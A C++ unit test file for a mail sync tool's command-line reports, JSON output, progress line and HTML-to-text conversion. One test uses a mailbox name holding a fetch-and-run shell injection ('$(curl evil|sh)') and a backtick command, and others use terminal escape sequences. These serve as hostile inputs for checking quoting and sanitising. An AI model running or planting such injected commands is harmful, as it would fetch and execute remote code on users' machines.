#include "tests/support/catch.h"

#include "cli/progress_line.h"
#include "cli/report.h"
#include "cli/text/html.h"
#include "cli/text/utf8.h"

#include <string>
#include <vector>

using namespace mailbraid::cli;
using namespace mailbraid::sync::engine;
using mailbraid::mailstore::ErrorKind;
using mailbraid::mailstore::Retry;
using Lines = std::vector<std::string>;

namespace {

EndpointReport endpoint(const std::string& name, std::uint64_t fresh, double seconds) {
  EndpointReport out;
  out.name = name;
  out.counts.fresh = fresh;
  out.counts.bytesIn = 1'200'000;
  out.seconds = seconds;
  return out;
}

}  // namespace

TEST_CASE("the report has a line an endpoint, totals and what needs a hand", "[cli][report]") {
  RunReport run;
  run.endpoints = {endpoint("work", 12, 0.4), endpoint("isp", 0, 0.2)};
  run.endpoints[0].counts.flags = 3;
  run.endpoints[0].counts.held = 40;
  run.endpoints[0].heldMailboxes = {"INBOX"};
  run.endpoints[0].notes = {"Sent was renamed to Gesendet"};
  run.endpoints[1].problems = {
      {ErrorKind::Refused, Retry::Never, "", "the password was refused; change password_command"}};
  run.totals.fresh = 12;
  run.totals.flags = 3;
  run.totals.held = 40;
  run.totals.bytesIn = 2'400'000;
  run.seconds = 0.5;
  CHECK(reportLines(run) == Lines{"work    12 new, 3 flags, 40 held back   1.2 MB in 0.4 s",
                                  "isp     nothing done, not complete      1.2 MB in 0.2 s",
                                  "total   12 new, 3 flags, 40 held back   2.4 MB in 0.5 s",
                                  "work: Sent was renamed to Gesendet",
                                  "work: 40 removals held back; look, and if they are meant, run: mailbraid sync "
                                  "--allow-removals work:INBOX"});
  CHECK(problemLines(run) == Lines{"isp: the password was refused; change password_command"});
}

TEST_CASE("P7: the command that lets held removals go is harmless to paste, whatever a server calls its mailboxes",
          "[cli][report]") {
  RunReport run;
  run.endpoints = {endpoint("work", 0, 1)};
  run.endpoints[0].counts.held = 60;
  run.endpoints[0].heldMailboxes = {"$(curl evil|sh)", "it's `id`\n; x"};
  const std::string told = " 60 removals held back; look, and if they are meant, run: mailbraid sync --allow-removals ";
  CHECK(reportLines(run).back() == "work:" + told +
                                       "'work:$(curl evil|sh)' --allow-removals 'work:it'\\''s "
                                       "`id` ; x'");
  run.endpoints[0].heldMailboxes.assign(6, "many");
  CHECK(reportLines(run).back() == "work:" + told + "work");
}

TEST_CASE("nothing to do is said plainly", "[cli][report]") {
  RunReport run;
  run.endpoints = {endpoint("work", 0, 0.02)};
  run.endpoints[0].counts.bytesIn = 900;
  CHECK(reportLines(run) == Lines{"work   nothing to do   900 B in 0.0 s"});
}

TEST_CASE("a run that was stopped says that nothing is lost", "[cli][report]") {
  RunReport run;
  run.cancelled = true;
  run.endpoints = {endpoint("work", 1, 1)};
  CHECK(reportLines(run).back() == "stopped before the end; nothing is lost, run it again to go on");
  CHECK(exitCodeOf(run) == ExitCode::Partial);
}

TEST_CASE("a server's words cannot drive the terminal through the report", "[cli][report]") {
  RunReport run;
  run.endpoints = {endpoint("work", 1, 1)};
  run.endpoints[0].problems = {{ErrorKind::Protocol, Retry::Later, "IN\x1B[2JBOX", "said \x07\x1B]0;x\x07"}};
  for (const std::string& line : problemLines(run)) {
    for (const char c : line) CHECK(static_cast<unsigned char>(c) >= 0x20);
  }
}

TEST_CASE("a run ends with the gravest of its endpoints", "[cli][report]") {
  RunReport run;
  run.endpoints = {endpoint("a", 0, 0), endpoint("b", 0, 0), endpoint("c", 0, 0)};
  CHECK(exitCodeOf(run) == ExitCode::Complete);
  run.endpoints[0].counts.held = 1;
  CHECK(exitCodeOf(run) == ExitCode::Held);
  run.endpoints[1].counts.quarantined = 1;
  CHECK(exitCodeOf(run) == ExitCode::Quarantined);
  run.endpoints[2].problems = {{ErrorKind::Unreachable, Retry::Later, "", "no answer"}};
  CHECK(exitCodeOf(run) == ExitCode::Unreachable);
  run.endpoints[0].problems = {{ErrorKind::Refused, Retry::Never, "", "refused"}};
  CHECK(exitCodeOf(run) == ExitCode::Refused);
}

TEST_CASE("sync --json has the counts that were promised", "[cli][report]") {
  EndpointReport report = endpoint("work", 12, 0.4);
  report.counts.roundTrips = 5;
  report.problems = {{ErrorKind::Protocol, Retry::Later, "INBOX", "said \"no\""}};
  CHECK(
      endpointJson(report).text() ==
      R"({"endpoint":"work","new":12,"adopted":0,"flags":0,"moved":0,"removed":0,"uploaded":0,"flags_stored":0,"moved_there":0,"removed_there":0,"held":0,"quarantined":0,"bytes_in":1200000,)"
      R"("bytes_out":0,"round_trips":5,"seconds":0.400,"mailboxes":0,"mailboxes_read":0,"problems":[{"mailbox":"INBOX",)"
      R"("kind":"protocol","retry":"later","sentence":"said \"no\""}],"notes":[],"held_mailboxes":[],"exit_code":76})");
  RunReport run;
  run.endpoints = {report};
  run.run = mailbraid::mailstore::RunId{7};
  CHECK(
      runJson(run, exitCodeOf(run)).text() ==
      R"({"run":7,"endpoints":1,"new":0,"adopted":0,"flags":0,"moved":0,"removed":0,"uploaded":0,"flags_stored":0,"moved_there":0,"removed_there":0,"held":0,"quarantined":0,"bytes_in":0,)"
      R"("bytes_out":0,"round_trips":0,"seconds":0.000,"cancelled":false,"exit_code":76})");
}

TEST_CASE("a run that the store ended is an object, too", "[cli][report]") {
  const mailbraid::mailstore::Error full(ErrorKind::NotWritable, mailbraid::mailstore::Scope::Run, Retry::Later,
                                         "the disk is full");
  const std::string json = failedRunJson(full).text();
  CHECK(json.starts_with(R"({"run":null,"endpoints":0,"new":0,)"));
  CHECK(json.ends_with(R"("cancelled":false,"exit_code":73,"error":"the disk is full"})"));
}

TEST_CASE("the command that allows removals can be pasted into a shell", "[cli][report]") {
  CHECK(allowCommand("work", "INBOX") == "mailbraid sync --allow-removals work:INBOX");
  CHECK(allowCommand("work", "Sent Items") == "mailbraid sync --allow-removals 'work:Sent Items'");
  CHECK(allowCommand("work", "it's") == "mailbraid sync --allow-removals 'work:it'\\''s'");
  CHECK(shellQuoted("") == "''");
  CHECK(shellQuoted("$(x)") == "'$(x)'");
}

TEST_CASE("the progress line tells what is known and fits the terminal", "[cli][progress]") {
  Progress progress;
  CHECK(progressLine(progress, 0, 80) == "0 mailboxes");
  progress = {2, 5, 120, 4000, 1'200'000, "work INBOX"};
  CHECK(progressLine(progress, 4, 100) ==
        "2/5 mailboxes, 120/4,000 messages, 1.2 MB, 300.0 kB/s, 2 min 9 s left, work INBOX");
  CHECK(progressLine(progress, 0.1, 100) == "2/5 mailboxes, 120/4,000 messages, 1.2 MB, work INBOX");
  CHECK(progressLine(progress, 4, 40) == "2/5 mailboxes, 120/4,000 messages");
  CHECK(progressLine(progress, 4, 5) == "2/5 \xE2\x80\xA6");
  for (std::size_t columns = 0; columns < 120; ++columns) {
    CAPTURE(columns);
    CHECK(displayWidth(progressLine(progress, 4, columns)) <= columns);
  }
}

TEST_CASE("a mailbox's name cannot drive the terminal through the progress line", "[cli][progress]") {
  CHECK(progressLine({1, 1, 0, 0, 0, "work \x1B[2J"}, 1, 80) == "1 mailbox, work \xC2\xB7[2J");
}

TEST_CASE("HTML mail becomes text", "[cli][html]") {
  CHECK(
      textOfHtml(
          "<html><head><title>x</title><style>p{}</style></head><p>Gr&uuml;&szlig;e &amp; mehr<br>n&#xe4;chste</p>") ==
      "Gr&uuml;&szlig;e & mehr\nn\xC3\xA4"
      "chste\n");
  CHECK(textOfHtml("a <!-- <b> --> b") == "a b");
  CHECK(textOfHtml("1 < 2") == "1 ");
  CHECK(textOfHtml("<script>if (a</b) x</script>y") == "y");
  for (const char* odd : {"<", "</", "<!--", "&", "&#;", "&#x110000;", "<style>", "<p", "&#0;"}) {
    CAPTURE(odd);
    CHECK(textOfHtml(odd).size() <= 12);
  }
}
